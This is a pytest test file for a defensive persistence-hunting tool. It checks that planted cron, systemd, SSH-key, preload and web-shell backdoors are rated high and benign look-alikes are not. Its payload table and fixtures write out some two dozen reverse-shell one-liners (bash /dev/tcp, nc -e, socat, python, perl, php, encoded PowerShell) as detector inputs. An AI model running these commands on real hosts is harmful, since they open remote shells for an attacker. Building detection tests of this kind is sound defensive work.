"""Persistence: the collector piece's output parsed (goldens from a real lab container), the payload
judge (each reverse-shell kind high, the benign look-alikes not), the bounds (caps, odd names,
unreadable areas are warnings and "incomplete", never "clean"), and Windows autoruns over fixtures
shaped like Microsoft's documented output (no Windows here)."""

from __future__ import annotations

import base64
import json
import os
import shutil
import subprocess
import sys
import tempfile
from dataclasses import replace
from pathlib import Path

import pytest

from hardening.facts.sections import Section, Sections, parse_sections
from hardening.hunt.linux import build_hunt_script, parse_users
from hardening.hunt.model import Tier
from hardening.hunt.payload import command_argv, judge, pipelines
from hardening.hunt.persistence import (
    Entry,
    canonical,
    parse_files,
    parse_lines,
    parse_persistence,
    parse_windows_persistence,
    score_entry,
)
from hardening.hunt.run import HostHunt, HuntRun, hunt_document, load_schema
from hardening.hunt.watch import WatchSpec, iter_samples, watch_script
from hardening.model import HostStatus, Platform

sys.path.insert(0, str(Path(__file__).parents[1] / "support"))
import persistence_plants as pp

GOLDEN = Path(__file__).parents[1] / "golden" / "hunt"
FIXTURES = Path(__file__).parents[1] / "windows" / "fixtures"


def golden(name: str):
    nonce, _, body = (GOLDEN / name).read_bytes().partition(b"\n")
    sections = parse_sections(body, nonce.decode())
    return parse_persistence(sections, parse_users(sections.text("hunt.passwd")))


def by_path(report):
    return {f.entry.path: f for f in report.findings}


# --- goldens: real collector output from a lab container --------------------------------------------


def test_golden_malicious_every_kind_is_high_with_its_evidence():
    report = golden("persistence_malicious.out")
    assert report.read and report.complete and report.warnings == () and report.ownership == "dpkg"
    found = by_path(report)
    for plant in pp.MALICIOUS:
        if plant.path.endswith(".timer"):
            continue  # the timer only names its unit: the unit is the payload
        f = found.get(plant.path)
        assert f is not None and f.tier is Tier.HIGH, (plant.path, f)
        e = f.entry
        assert e.kind == plant.kind and e.owner == "root" and e.uid == 0, e
        assert e.mtime is not None and e.mtime > 1.7e9 and e.size and e.mode == plant.mode, e
        assert e.packaged == ("unknown" if plant.kind == "web" else "no"), e
        assert e.lines and any(text in plant.content for _, text in e.lines), (e.lines, plant.content)
        assert f.reasons and all(r for r in f.reasons)
    assert found["/etc/systemd/system/p21-cache.timer"].tier is Tier.LOW
    # package-owned units, init scripts and cron jobs of the image are only counted
    assert report.counts["systemd"].packaged >= 20 and report.counts["init"].packaged >= 5
    assert not any(p.startswith(("/usr/lib/systemd/system/", "/lib/systemd/system/")) for p in found)
    assert "/etc/cron.daily/dpkg" not in found and "/etc/cron.d/e2scrub_all" not in found


def test_golden_malicious_reasons_name_the_payload():
    found = by_path(golden("persistence_malicious.out"))
    why = {p: " ".join(f.reasons) for p, f in found.items()}
    assert "/dev/tcp/198.18.0.1/4444" in why["/etc/cron.d/p21-rev"]
    assert "'-e /bin/sh'" in why["/var/spool/cron/crontabs/root"]
    assert "mkfifo" in why["/etc/cron.hourly/p21-sync"]
    assert "base64" in why["/etc/systemd/system/p21-update.service"]
    assert "decodes to 'bash -i >& /dev/tcp/198.18.0.1/4444 0>&1'" in why["/etc/systemd/system/p21-update.service"]
    assert "/dev/shm/.cache/kworker" in why["/etc/systemd/system/p21-cache.service"]
    assert "exec:/bin/bash" in why["/etc/systemd/system/ssh.service.d/p21.conf"]
    assert "perl one-liner" in why["/root/.config/systemd/user/p21-agent.service"]
    assert "/dev/udp/" in why["/etc/rc.local"] and "--sh-exec" in why["/etc/init.d/p21-net"]
    assert "php one-liner" in why["/etc/profile.d/p21.sh"]
    assert "forced command" in why["/root/.ssh/authorized_keys"]
    assert "/dev/shm/.p21.so" in why["/etc/ld.so.preload"]
    assert "piped into a shell" in why["/etc/udev/rules.d/99-p21.rules"]
    assert "/tmp/p21-helper" in why["/etc/sudoers.d/p21"]
    assert "web shell" in why["/var/www/html/p21.php"] and "web shell" in why["/var/lib/tomcat9/webapps/ROOT/p21.jsp"]


def test_golden_benign_look_alikes_are_never_high():
    report = golden("persistence_benign.out")
    assert report.complete and report.warnings == ()
    found = by_path(report)
    assert not [f for f in report.findings if f.tier is Tier.HIGH], [f.entry.path for f in report.findings]
    tiers = {p.path: (found[p.path].tier.value if p.path in found else "info") for p in pp.BENIGN}
    assert tiers["/etc/cron.d/p21-logrotate"] == "low"  # no package owns it: listed, low
    assert tiers["/etc/systemd/system/p21-certbot.timer"] == "low"
    assert tiers["/etc/ld.so.preload"] == "low"  # a package's library
    for quiet in ("/root/.bashrc", "/etc/profile.d/p21.sh", "/root/.ssh/authorized_keys", "/var/www/html/p21.php",
                  "/var/lib/tomcat9/webapps/ROOT/p21.jsp", "/root/.config/systemd/user/p21-agent.service"):  # fmt: skip
        assert tiers[quiet] == "info", (quiet, found.get(quiet))
    assert not [f for f in report.findings if f.tier is Tier.MEDIUM], [f.reasons for f in report.findings]


def test_golden_hunt_json_persistence_section_validates():
    report = golden("persistence_malicious.out")
    host = HostHunt("lab1", "127.0.0.1:2222", Platform.LINUX, HostStatus.OK, persistence=report)
    doc = hunt_document([host], "inv.ini", "2026-12-07T00:00:00+00:00")
    import jsonschema

    jsonschema.validate(doc, load_schema("hunt.v1.json"))
    p = doc["hosts"][0]["persistence"]
    assert doc["summary"]["persistence"]["high"] == len([f for f in report.findings if f.tier is Tier.HIGH])
    entry = next(e for e in p["entries"] if e["path"] == "/etc/cron.d/p21-rev")
    assert entry["owner"] == "root" and entry["mtime"].startswith("20") and entry["lines"][0]["line"] == 1
    assert "/dev/tcp/" in entry["lines"][0]["text"] and entry["package_owned"] == "no"
    assert p["counts"]["systemd"]["package_owned"] >= 20 and HuntRun((host,), Path("x")).high


# --- the payload judge ------------------------------------------------------------------------------

HIGH = {
    "dev-tcp": "bash -i >& /dev/tcp/203.0.113.9/443 0>&1",
    "dev-udp": "sh -i >& /dev/udp/203.0.113.9/53 0>&1",
    "nc-e": "nc -e /bin/sh 203.0.113.9 4444",
    "nc-cluster": "/bin/nc.traditional -vnlp 4444 -c 'sh -i'",
    "ncat-sh-exec": "ncat 203.0.113.9 4444 --sh-exec sh",
    "ncat-abbrev": "ncat --sh=sh 203.0.113.9 4444",
    "busybox-nc": "busybox nc 203.0.113.9 4444 -e /bin/sh",
    "nc-into-sh": "nc 203.0.113.9 4444 | /bin/bash",
    "sh-into-nc": "/bin/sh -i 2>&1 | nc 203.0.113.9 4444",
    "mkfifo": "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f",
    "socat-exec": "socat TCP:203.0.113.9:4444 EXEC:'bash -li',pty,stderr,setsid",
    "socat-system": "socat tcp-connect:203.0.113.9:4444 system:sh",
    "python": 'python3 -c \'import socket,os;s=socket.socket();s.connect(("h",1));'
    'os.dup2(s.fileno(),0);os.system("sh")\'',
    "perl": 'perl -e \'use Socket;socket(S,2,1,6);connect(S,sockaddr_in(1,inet_aton("h")));exec("/bin/sh -i")\'',
    "ruby": 'ruby -rsocket -e \'f=TCPSocket.open("h",1).to_i;exec sprintf("/bin/sh -i <&%d >&%d",f,f)\'',
    "php": 'php -r \'$sock=fsockopen("h",1);exec("/bin/sh -i <&3 >&3 2>&3");\'',
    "lua": "lua -e \"local s=require('socket');local t=s.tcp();t:connect('h',1);os.execute('/bin/sh -i <&3')\"",
    "node": 'node -e \'require("child_process").spawn("/bin/sh",[]);require("net").connect(1,"h")\'',
    "b64-pipe": "echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xLjIuMy40LzQ0NDQgMD4mMQ== | base64 --decode | bash",
    "b64-decoded": 'sh -c "$(echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xLjIuMy40LzQ0NDQgMD4mMQ== | base64 -d)"',
    "tmp-binary": "nohup setsid /tmp/.x/agent --quiet >/dev/null 2>&1 &",
    "var-tmp": "/var/tmp/kdevtmpfsi",
    "dev-shm": "env X=1 /dev/shm/sd-pam",
    "ps-enc": "powershell -nop -w hidden -enc "
    + base64.b64encode("$c=New-Object Net.Sockets.TCPClient('h',1)".encode("utf-16-le")).decode(),
    "ps-iex": 'powershell -c "IEX([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($p)))"',
}
NOT_HIGH = {
    "logrotate": "test -x /usr/sbin/logrotate || exit 0; /usr/sbin/logrotate /etc/logrotate.conf",
    "certbot": "/usr/bin/certbot -q renew --no-random-sleep-on-renew",
    "apt-daily": "/usr/lib/apt/apt.systemd.daily update",
    "rm-tmp": "rm -f /tmp/x.lock; find /var/tmp -mtime +7 -delete",
    "alias": "alias ll='ls -alF'",
    "ssh": "ssh -N -R 2222:localhost:22 backup@example.org",
    "nc-z": "nc -z localhost 5432 && echo up",
    "python-module": "python3 -m http.server 8000",
    "redirect-tmp": "/usr/bin/backup > /tmp/backup.log 2>&1",
    "b64-encode": "tar c /etc | base64 > /var/backups/etc.b64",
    "start-stop": 'start-stop-daemon --start --quiet --exec "$DAEMON" -- --socket /run/x.sock',
}


@pytest.mark.parametrize("name", sorted(HIGH))
def test_judge_rates_each_payload_kind_high(name):
    found = judge(HIGH[name])
    assert found and found[0][0] is Tier.HIGH, (name, found)


@pytest.mark.parametrize("name", sorted(NOT_HIGH))
def test_judge_never_rates_a_benign_look_alike_high(name):
    found = judge(NOT_HIGH[name])
    assert not [f for f in found if f[0] is Tier.HIGH], (name, found)


def test_pipelines_and_wrappers_are_read_as_a_shell_would():
    assert pipelines("a | b && c; d &") == [[["a"], ["b"]], [["c"]], [["d"]]]
    assert command_argv(["sudo", "-E", "nc", "-e", "sh"]) == ["nc", "-e", "sh"]
    assert command_argv(["timeout", "5", "/tmp/x"]) == ["/tmp/x"]
    assert judge("x" * 100000 + " /dev/tcp/1.2.3.4/1") == []  # past the bound: not read
    assert judge("nc -e /bin/sh h 1 'unbalanced quote")[0][0] is Tier.HIGH  # no shlex error


def test_base64_decoding_is_bounded():
    nested = "bash -i >& /dev/tcp/1.2.3.4/1 0>&1"
    for _ in range(6):
        nested = f"echo {base64.b64encode(nested.encode()).decode()} | base64 -d | sh"
    assert judge(nested)[0][0] is Tier.HIGH  # the outer pipe itself
    junk = " ".join(base64.b64encode(bytes([i]) * 30).decode() for i in range(50))
    assert judge(junk) == []


# --- scoring entries (medium and low rules) ----------------------------------------------------------


def entry(kind: str, path: str, *lines: str, packaged: str = "no", link: str = "") -> Entry:
    return Entry(kind, path, "root", 0, "644", 1.7e9, 100, packaged, tuple(enumerate(lines, 1)), link)


def test_scoring_rules_medium_and_low():
    def tier(e, area, owned=None):
        t = score_entry(e, area, owned).tier
        return t.value if t else "info"

    unit = entry("systemd", "/etc/systemd/system/x.service", "ExecStart=/usr/bin/curl -s http://h/x -o /opt/x")
    assert tier(unit, "systemd") == "medium"
    assert tier(replace(unit, packaged="yes"), "systemd") == "info"
    plain = entry("systemd", "/etc/systemd/system/x.service", "ExecStart=/opt/app/bin/server")
    assert tier(plain, "systemd") == "low"
    keys = entry("authorized_keys", "/home/a/.ssh/authorized_keys", 'command="/opt/tunnel.sh" ssh-ed25519 AAAA a')
    assert tier(keys, "keys") == "medium"
    for ok in ('command="/usr/bin/rrsync -ro /srv" ssh-ed25519 AAAA', 'command="internal-sftp" ssh-rsa AAAA',
               'no-pty,command="echo \'Please login as the user \\"admin\\"\';echo;sleep 10" ssh-rsa AAAA',
               "ssh-ed25519 AAAA plain-key"):  # fmt: skip
        assert tier(entry("authorized_keys", "/root/.ssh/authorized_keys", ok), "keys") == "info", ok
    env = entry("authorized_keys", "/root/.ssh/authorized_keys", 'environment="LD_PRELOAD=/x.so" ssh-rsa AAAA')
    assert tier(env, "keys") == "medium"
    pre = entry("ld.so.preload", "/etc/ld.so.preload", "/usr/local/lib/libhook.so")
    assert tier(pre, "preload", {"/usr/local/lib/libhook.so": "no"}) == "medium"
    assert tier(pre, "preload", {"/usr/local/lib/libhook.so": "yes"}) == "low"
    web = entry("web", "/var/www/a.php", "<?php $c = $_POST['c'];", "passthru($c);")
    assert tier(web, "web") == "medium"
    assert tier(entry("web", "/var/www/b.php", "<?php eval(base64_decode('ZWNobyAxOw=='));"), "web") == "high"
    assert tier(entry("web", "/var/www/c.php", "<?php echo shell_exec('uptime');"), "web") == "info"
    assert tier(entry("web", "/var/www/d.aspx", 'Process.Start("cmd.exe", Request["c"]);'), "web") == "high"
    link = entry("systemd", "/etc/systemd/system/multi-user.target.wants/y.service", link="/tmp/y.service")
    assert tier(link, "systemd") == "high"
    sudo = entry("sudoers", "/etc/sudoers.d/x", 'Defaults env_keep += "LD_PRELOAD"', packaged="yes")
    assert tier(sudo, "sudoers") == "medium"
    user_rc = entry("shell-startup", "/home/a/.bashrc", "curl -s http://h/x | sh")
    assert tier(user_rc, "shell") == "medium"  # a download piped into a shell at every login
    assert tier(entry("shell-startup", "/home/a/.bashrc", "nohup /opt/agent &"), "shell") == "low"


def test_parsers_by_hand():
    files, capped = parse_files("0\t644\tx\t20\tf\t\t/etc/a\n1000\t600\t1.5\t3\tl\t../b\t/etc/c\nnot a line\n")
    assert [f.path for f in files] == ["/etc/a", "/etc/c"] and files[0].mtime is None and capped is None
    assert files[1].ftype == "symlink" and files[1].link == "../b"
    assert parse_lines("/etc/a:1:x:2:y\n/etc/zz:1:no\n", {"/etc/a"}) == {"/etc/a": [(1, "x:2:y")]}
    assert canonical("/bin/sh") == "/usr/bin/sh" and canonical("/etc/x") == "/etc/x"


# --- bounds: the real piece run on a fixture tree ($HR) ---------------------------------------------


def run_piece(root: Path, *prefix: str, **limits: int) -> Sections:
    """The real persistence piece (with the collector's header) run by ``sh`` over the tree ``root``
    ($HR), ``limits`` replacing its bounds, ``prefix`` before ``sh`` (setpriv...)."""
    script = build_hunt_script("n1")
    piece = script[script.index("# harden hunt collector piece (Linux), after containers.sh: what") :]
    piece = piece.replace("HR=\n", "", 1)
    for name, value in limits.items():
        piece = piece.replace(f"    {name}=", f"    {name}={value} #", 1)
    header = script[: script.index("# harden hunt collector piece (Linux): one snapshot")]
    body = header + f"HR={root}\nHS=0\n" + piece
    out = subprocess.run([*prefix, "sh", "-s"], input=body.encode(), capture_output=True, timeout=60, cwd="/").stdout
    return parse_sections(out, "n1")


def test_piece_on_a_fixture_tree_caps_and_odd_names_make_it_incomplete(tmp_path):
    root = tmp_path / "r"
    (root / "etc/cron.d").mkdir(parents=True)
    (root / "etc/passwd").write_text("root:x:0:0:root:/root:/bin/sh\n")
    (root / "root").mkdir()
    (root / "root/.bashrc").write_text("bash -i >& /dev/tcp/192.0.2.1/1 0>&1\n")
    for i in range(12):
        (root / f"etc/cron.d/job{i:02}").write_text(f"* * * * * root /usr/bin/true {i}\n")
    (root / "etc/cron.d/odd\nname").write_text("* * * * * root nc -e /bin/sh 192.0.2.1 1\n")
    big = root / "etc/cron.d/zbig"
    big.write_text("# " + "x" * 3000 + "\n")
    report = parse_persistence(run_piece(root, HPF=8, HPS=2000))
    assert report.read and not report.complete
    text = " ".join(report.warnings)
    assert "cron: more than" in text and "newline" in text, report.warnings
    assert by_path(report)[f"{root}/root/.bashrc"].tier is Tier.HIGH  # the other areas were read
    clean = parse_persistence(run_piece(root / "none"))  # an empty tree: complete, nothing found
    assert clean.read and clean.findings == ()


def test_piece_byte_budget_is_a_warning(tmp_path):
    root = tmp_path / "r"
    (root / "etc/cron.d").mkdir(parents=True)
    (root / "etc/passwd").write_text("")
    for i in range(5):
        (root / f"etc/cron.d/j{i}").write_text("".join(f"* * * * * root /bin/true {n}\n" for n in range(50)))
    report = parse_persistence(run_piece(root, HPT=2000))
    assert not report.complete and any("byte cap" in w for w in report.warnings), report.warnings


def test_missing_or_cut_persistence_is_never_clean():
    empty = parse_persistence(Sections({}, complete=True))
    assert not empty.read and not empty.complete and empty.warnings
    cut = Sections({"hunt.p.t0": Section("hunt.p.t0", "1.0 1.0", 0)}, complete=False)
    report = parse_persistence(cut)
    assert report.read and not report.complete and report.warnings


def test_watch_reads_persistence_in_the_first_sample_only():
    script = watch_script("n1", WatchSpec(3, 1))
    piece = script[script.index("# harden hunt collector piece (Linux), after containers.sh: what") :]
    assert piece.index('if [ "${HS:-0}" = 0 ]; then') < piece.index("_hp_area cron") < piece.index("\nfi\n")
    raw = (GOLDEN / "persistence_malicious.out").read_bytes().partition(b"\n")[2]
    samples = list(iter_samples(raw, "n1"))
    assert len(samples) == 1 and parse_persistence(samples[0].sections).high


# --- Windows: fixtures per Microsoft's documented output ---------------------------------------------


def test_windows_autoruns_fixture():
    doc = json.loads((FIXTURES / "hunt_persistence.json").read_text())
    report = parse_windows_persistence(doc)
    assert report.read and report.complete and report.ownership == "windows"
    tiers = {f.entry.path: f.tier.value for f in report.findings}
    want = {
        "HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater": "high",
        "Registry::HKEY_USERS\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\x": "high",
        "svcupd": "high",
        "\\EvilCorp\\Sync": "high",
        "root/subscription:CommandLineEventConsumer.Updater (bound)": "high",
        "root/subscription:ActiveScriptEventConsumer.Beacon (bound)": "high",
        "root/subscription:CommandLineEventConsumer.SCMWatch (not bound to a filter)": "medium",
        "C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\run.bat": "high",
        "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\Teams.lnk": "low",
        "HKLM:\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\Run\\Helper": "medium",
    }
    for path, tier in want.items():
        assert tiers.get(path) == tier, (path, tiers)
    for benign in ("HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\SecurityHealth", "wuauserv",
                   "\\Microsoft\\Windows\\Defrag\\ScheduledDefrag"):  # fmt: skip
        assert benign not in tiers, benign
    assert report.counts["service"].files == 3 and report.counts["scheduled-task"].files == 2


def test_windows_query_failures_are_warnings():
    doc = {"done": True, "persistence": {"wmi_error": "Access denied", "services": {"name": "one", "path": "x"}}}
    report = parse_windows_persistence(doc)
    assert not report.complete and "WMI subscriptions could not be read: Access denied" in report.warnings[0]
    assert report.counts["service"].files == 1  # ConvertTo-Json's single object, not a list
    assert not parse_windows_persistence({"done": True}).read


def test_persistence_text_is_redacted_like_the_rest_of_the_host_record():
    from hardening.redact import redact_host

    secret = "hunter42-sudo"
    e = entry("cron", "/etc/cron.d/x", f"* * * * * root echo {secret} | sudo -S nc -e /bin/sh h 1")
    found = score_entry(e, "cron")
    report = parse_persistence(Sections({}, complete=True))
    report = replace(report, findings=(found,), warnings=(f"persistence: {secret}",))
    host = HostHunt("h", "a", Platform.LINUX, HostStatus.OK, persistence=report)
    blanked = redact_host(host, (secret,))
    text = json.dumps(hunt_document([blanked], "i", "t"))
    assert secret not in text and "********" in text and found.tier is Tier.HIGH


@pytest.mark.skipif(os.geteuid() != 0 or not shutil.which("setpriv"), reason="needs root to drop to nobody")
def test_piece_without_root_reports_unreadable_files():
    """The real piece as nobody over a tree with a root-only sudoers: a warning, incomplete."""
    root = Path(tempfile.mkdtemp(prefix="p21persist", dir="/tmp"))
    try:
        root.chmod(0o755)
        (root / "etc/sudoers.d").mkdir(parents=True)
        (root / "etc/passwd").write_text("")
        (root / "etc/sudoers").write_text("root ALL=(ALL) ALL\n")
        (root / "etc/sudoers").chmod(0o600)
        (root / "etc/sudoers.d").chmod(0o700)
        report = parse_persistence(run_piece(root, "setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"))
        assert report.read and not report.complete, report
        assert any("sudoers" in w and "could not be read" in w for w in report.warnings), report.warnings
    finally:
        shutil.rmtree(root)


def test_stderr_of_an_area_makes_it_incomplete():
    sec = {
        "hunt.p.t0": Section("hunt.p.t0", "1.0 1.0", 0),
        "hunt.p.sudoers.files": Section("hunt.p.sudoers.files", "0\t440\t1.0\t10\tf\t\t/etc/sudoers\n", 0),
        "hunt.p.sudoers.lines": Section("hunt.p.sudoers.lines", "", 0),
        "hunt.p.sudoers.lines!err": Section("hunt.p.sudoers.lines!err", "grep: /etc/sudoers: Permission denied", 0),
        "hunt.p.t1": Section("hunt.p.t1", "1.1 1.0", 0),
    }
    report = parse_persistence(Sections(sec, complete=True))
    assert not report.complete and "Permission denied" in report.warnings[0]


def test_piece_reads_the_keys_authorizedkeysfile_names(tmp_path):
    root = tmp_path / "r"
    for d in ("etc/ssh/keys", "home/alice/.ssh", "root"):
        (root / d).mkdir(parents=True)
    (root / "etc/passwd").write_text("root:x:0:0:root:/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/sh\n")
    (root / "etc/ssh/sshd_config").write_text("Port 22\nAuthorizedKeysFile /etc/ssh/keys/%u .ssh/authorized_keys\n")
    (root / "etc/ssh/keys/alice").write_text('command="nc -e /bin/sh 192.0.2.1 1" ssh-ed25519 AAAA alice\n')
    (root / "home/alice/.ssh/authorized_keys").write_text('command="internal-sftp" ssh-ed25519 AAAA alice\n')
    report = parse_persistence(run_piece(root))
    assert report.complete, report.warnings
    found = by_path(report)
    assert found[f"{root}/etc/ssh/keys/alice"].tier is Tier.HIGH
    assert f"{root}/home/alice/.ssh/authorized_keys" not in found
    assert report.counts["authorized_keys"].files == 2


def test_key_options_are_read_as_sshd_reads_them():
    from hardening.hunt.authkeys import key_options

    blob = "AAAAC3NzaC1lZDI1NTE5AAAAIFcsjE3eyQds6dpATMvIqhx6zKxbvQqOuRNFBu2pFOr8"
    assert key_options(f'command="echo \\"a b\\"",no-pty ssh-ed25519 {blob} x') == (
        ("command", 'echo "a b"'),
        ("no-pty", None),
    )
    assert key_options(f'ssh-ed25519 {blob} command="bash -i >& /dev/tcp/1.2.3.4/5 0>&1"') == ()  # a comment
    assert key_options('# command="nc -e /bin/sh 1.2.3.4 5" ssh-ed25519 AAAA') == ()
    cut = 'command="nc -e /bin/sh 198.51.100.9 4444" ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAC'  # a long key cut off
    assert key_options(cut) == (("command", "nc -e /bin/sh 198.51.100.9 4444"),)
    assert key_options('COMMAND="id" ssh-ed25519 AAAA') == (("command", "id"),)


def test_secrets_in_rated_lines_and_reasons_are_masked_after_scoring():
    from hardening.hunt.persistence import Entry, _finding

    e = Entry("cron", "/etc/cron.d/x", "root", 0, "644", None, None, "no")
    f = _finding(e, ((1, "* * * * * root /opt/sync --token s3cr3t https://u:pw@h/ | sh"),), Tier.HIGH,
                 ["line 1: runs --token s3cr3t", "line 1: runs --token s3cr3t"])  # fmt: skip
    assert "s3cr3t" not in f.entry.lines[0][1] and ":pw@" not in f.entry.lines[0][1]
    assert f.reasons == ("line 1: runs --token ********",)
    kept = _finding(e, ((1, "p21 ALL=(root) NOPASSWD: /tmp/p21-helper"),), Tier.HIGH, [])
    assert kept.entry.lines[0][1].endswith("NOPASSWD: /tmp/p21-helper")  # sudo's tag is no password
